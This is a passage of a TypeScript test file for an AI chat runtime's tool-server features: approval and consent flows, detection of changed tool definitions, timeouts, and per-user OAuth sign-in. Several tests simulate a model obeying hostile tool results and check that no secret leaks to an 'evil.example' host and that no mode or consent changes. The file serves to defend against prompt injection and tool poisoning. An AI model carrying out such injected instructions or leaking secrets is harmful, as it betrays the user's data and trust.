  expect(await schemaFor(client)).toBeUndefined();
  await colleague.post(`/v1/approvals/${approval_id}/decide`, { decision: "deny", note: "Not today" });
  await finish();
  expect([calls(), toolResults().join()]).toEqual([[], expect.stringContaining("Not today")]);
  setScripts(streamToolCalls(writeCall("x")));
  expect((await chatUntilPaused(await createConversation({ mode: "auto" }))).approval_id).toBeTruthy();
});

it("tool of a server asks for consent after the model has read text of others, unless an administrator trusts the tool", async () => {
  await change({ mode: "auto" });
  setScripts(
    streamToolCalls(readCall("a")),
    streamToolCalls(readCall("b")),
    streamToolCalls(writeCall("stolen")),
    streamText(["Done."]),
  );
  const { message, finish, approval_id } = await chatUntilPaused(await createConversation(), "RESEARCH");
  expect(message).toContain("after reading text that others wrote");
  expect(calls().map((call) => call.message.params.name)).toEqual(["read", "read"]);
  await client.post(`/v1/approvals/${approval_id}/confirm`, { decision: "deny" });
  await finish();
  expect(calls()).toHaveLength(2);
});

it("tool of a server is not called when its definition has changed since the approval was requested", async () => {
  setScripts(streamToolCalls(writeCall("x")), streamText(["Sorry."]));
  const { approval_id, finish } = await chatUntilPaused(await createConversation());
  const tools = mcp.tools;
  mcp.tools = [toolDefinition("read"), toolDefinition("write", { description: "Writes, and mails it." })];
  const { body: checked } = await client.post(`/v1/tools/servers/${serverId}/check`, undefined);
  const { hash } = checked.tools.find(({ name }: { name: string }) => name === "write");
  await change({ approved: { write: hash } });
  mcp.tools = tools;
  await client.post(`/v1/approvals/${approval_id}/confirm`, { decision: "approve" });
  await finish();
  expect(toolResults().join()).toContain("definition of this tool has changed");
  expect(calls()).toEqual([]);
});

it.each([
  ["hangs", () => true, /did not respond in time.*not known whether/, "unknown"],
  [
    "dies during the call",
    (_: unknown, response: { destroy(): void }) => {
      response.destroy();
      return true;
    },
    /could not be reached.*not known whether/,
    "unknown",
  ],
  [
    "is busy",
    (_: unknown, response: { writeHead(status: number): { end(): void } }) => {
      response.writeHead(429).end();
      return true;
    },
    /busy/,
    "failed",
  ],
  ...(isFullRun ? wrongAnswers : wrongAnswers.slice(0, 1)),
] as const)(
  "tool of a server is called once and the answer is completed when its server %s",
  async (_, intercept, text, status) => {
    await change({ limits: { timeout_seconds: 1 } });
    mcp.intercept = intercept as unknown as McpServer["intercept"];
    setScripts(streamToolCalls(readCall("a")), streamText(["It failed."]));
    const conversation = await createConversation();
    const frames = await chat("THINKING", conversation);
    expect(streamedText(frames)).toBe("It failed.");
    expect(toolResults().join()).toMatch(text);
    expect(titlesOf(frames, "tool_call").at(-1).status).toBe(status);
    expect(calls()).toHaveLength(1);
    if (status === "failed") return;
    // The next turn tells the model, and asks before another call.
    mcp.intercept = () => false;
    await change({ limits: { timeout_seconds: 30 } });
    setScripts(streamToolCalls(readCall("a")), streamText(["Read."]));
    const { approval_id, message, finish } = await chatUntilPaused(conversation);
    expect(message).toContain("may have taken effect");
    expect(JSON.stringify(prompts()[0].messages)).toContain("The outcome of these earlier tool calls is unknown");
    expect(calls()).toHaveLength(1);
    await client.post(`/v1/approvals/${approval_id}/confirm`, { decision: "approve" });
    await finish();
    expect(calls()).toHaveLength(2);
    setScripts(streamToolCalls(readCall("b")), streamText(["Read."]));
    expect(streamedText(await chat("THINKING", conversation))).toBe("Read.");
  },
);

it.each(attacks.map((attack) => [attack.name, attack] as const))(
  "tool of a server has no effect, leaks nothing and changes no mode when the model obeys a hostile %s",
  async (...[, attack]) => {
    const { before, server, persona } = await createHostileServer(attack);
    mcp.call = () => ({ ...attack.result, _meta: { authorization: SECRET } });
    upstream.requests.length = 0;
    upstream.script = obedientModel;
    const content = `My code word is ${CODE_WORD}, keep it to yourself. Read the file a.`;
    const { body: conversation } = await client.post("/v1/conversations", { title: "x", persona_id: persona });
    const body = JSON.stringify({ conversation_id: conversation.id, content, tier: "THOUGHT_PARTNER" });
    const headers = { "content-type": "application/json" };
    const frames: ReceivedFrame[] = [];
    for await (const frame of readFrames(await client.fetch("/v1/runtime/chat", { method: "POST", headers, body }))) {
      frames.push(frame);
      if (frame.data.code === "approval_required") break;
    }
    expect(frames.map(({ event }) => event)).not.toContain("error");
    // Only the tool that needs no consent was called, and only with what it was asked for.
    expect(calls().map(({ message }) => message.params.name)).toEqual(attack.isChanged ? [] : ["read"]);
    expect(JSON.stringify(upstream.requests)).not.toContain("s3cret");
    expect(JSON.stringify(frames)).not.toContain("s3cret");
    const answer = streamedText(frames);
    expect(answer).not.toMatch(/evil\.example\S*(?:code|word)/i);
    const after = (await client.get(`/v1/tools/servers/${server}`)).body;
    expect({ ...after, tools: [] }).toEqual({ ...before, tools: [] });
    expect(after.tools.map(({ status }: { status: string }) => status)).toEqual(
      before.tools.map(({ status }: { status: string }) => status),
    );
    const lists = await Promise.all(
      ["/v1/notes", "/v1/memories", "/v1/tools/consents"].map((path) => client.get(path)),
    );
    expect(lists.map(({ body: list }) => list.notes ?? list.memories ?? list.consents)).toEqual([[], [], []]);
  },
);

it("tool of a server with sign-in waits until the user who asked has signed in, and is called with that user's token only", async () => {
  const issuer = await startAuthorizationServer();
  const mail = await startProtectedServer(issuer);
  const { body: server } = await client.post("/v1/tools/servers", {
    name: "Mail",
    url: mail.url,
    auth: { type: "oauth_user" },
  });
  serverId = server.id;
  const signIn = async (user: Client, url: string, account: string) =>
    user.post("/v1/tools/sign-ins", await issuer.signIn(url, account));
  const startUrl = async (user: Client) => (await user.post(`/v1/tools/servers/${server.id}/sign-in`, {})).body.url;
  // An administrator signs in, lists the tools and approves them, and signs out again.
  await signIn(client, await startUrl(client), "root");
  const { body: checked } = await client.post(`/v1/tools/servers/${server.id}/check`, undefined);
  await change({ approved: { whoami: checked.tools[0].hash }, mode: "confirm" });
  const conversation = await createConversation();
  const colleague = await createColleague(client, "admin");
  await signIn(colleague, await startUrl(colleague), "bob");
  await client.delete(`/v1/tools/servers/${server.id}/sign-in`);
  mail.accounts.length = 0;

  setScripts(streamToolCalls(["mail__whoami", "{}"]), streamText(["You are Ada."]));
  const body = JSON.stringify({ conversation_id: conversation, content: "Who am I?", tier: "THINKING" });
  const headers = { "content-type": "application/json" };
  const stream = readFrames(await client.fetch("/v1/runtime/chat", { method: "POST", headers, body }));
  const nextWarning = async () => {
    for (let next = await stream.next(); !next.done; next = await stream.next()) {
      if (next.value.data.approval_id) return next.value.data;
    }
  };
  const waiting = await nextWarning();
  expect(waiting).toMatchObject({ code: "sign_in_required", server_id: server.id });
  // Neither a colleague's sign-in nor a confirmation without one continues the run.
  expect((await signIn(colleague, waiting.sign_in_url, "bob")).status).toBe(400);
  await client.post(`/v1/approvals/${waiting.approval_id}/confirm`, { decision: "approve" });
  const again = await nextWarning();
  expect(again.code).toBe("sign_in_required");
  expect((await signIn(client, again.sign_in_url, "ada")).status).toBe(200);
  // The sign-in is no consent to the call.
  const consent = await nextWarning();
  expect([consent.code, mail.accounts]).toEqual(["approval_required", []]);
  await client.post(`/v1/approvals/${consent.approval_id}/confirm`, { decision: "approve" });
  expect(streamedText(await Array.fromAsync(stream))).toBe("You are Ada.");
  expect([...new Set(mail.accounts)]).toEqual(["ada"]);

  // A token that the server refuses is renewed once, and the calls are repeated.
  mail.refuseTokens();
  await change({ mode: "auto", trusted_tools: ["whoami"] });
  const before = issuer.counts.get("/token") ?? 0;
  setScripts(streamToolCalls(["mail__whoami", "{}"], ["mail__whoami", "{}"]), streamText(["Ada."]));
  expect(streamedText(await chat("THINKING", conversation))).toBe("Ada.");
  expect(toolResults().filter((text) => text.includes("You are ada."))).toHaveLength(2);
  expect((issuer.counts.get("/token") ?? 0) - before).toBe(1);

  // All answers that wait for the sign-in continue after it.
  await client.delete(`/v1/tools/servers/${server.id}/sign-in`);
  const ask = (): Script => streamToolCalls(["mail__whoami", "{}"]);
  setScripts(ask(), ask(), streamText(["Both."]), streamText(["Both."]));
  const start = async () => {
    const request = { conversation_id: await createConversation(), content: "Who am I?", tier: "THINKING" };
    const frames = readFrames(
      await client.fetch("/v1/runtime/chat", { method: "POST", headers, body: JSON.stringify(request) }),
    );
    for (let next = await frames.next(); !next.done; next = await frames.next()) {
      if (next.value.data.code === "sign_in_required") break;
    }
    return frames;
  };
  const streams = [await start(), await start()];
  expect((await signIn(client, await startUrl(client), "ada")).status).toBe(200);
  for (const frames of streams) expect(streamedText(await Array.fromAsync(frames))).toBe("Both.");
  await Promise.all([mail.stop(), issuer.stop()]);
});

// Last, because it moves the clock.
it("call of a tool server's tool is handed to another function if the current one would time out before the call ends", async () => {
  await change({ limits: { timeout_seconds: 600 } });
  const conversation = await createConversation();
  const callLater: Script = (response, request) => {
    clock.advance(5 * 60_000);
    return streamToolCalls(readCall("a"))(response, request);
  };
  setScripts(callLater, streamText(["Done."]));
  await chat("THINKING", conversation);
  const lastMessage = async () => (await client.get(`/v1/conversations/${conversation}/messages`)).body.messages.at(-1);
  await expect.poll(lastMessage).toMatchObject({ status: "complete", content: [{ type: "text", text: "Done." }] });
  // The first connection may have ended when the clock moved.
  const { message_id } = await lastMessage();
  const frames = await Array.fromAsync(readFrames(await client.fetch(`/v1/runtime/chat/${message_id}/stream`)));
  expect(titlesOf(frames, "preflight_warning")).toContainEqual(expect.objectContaining({ code: "handed_over" }));
  expect(calls().map(({ message }) => message.params.arguments)).toEqual([{ text: "a" }]);
});
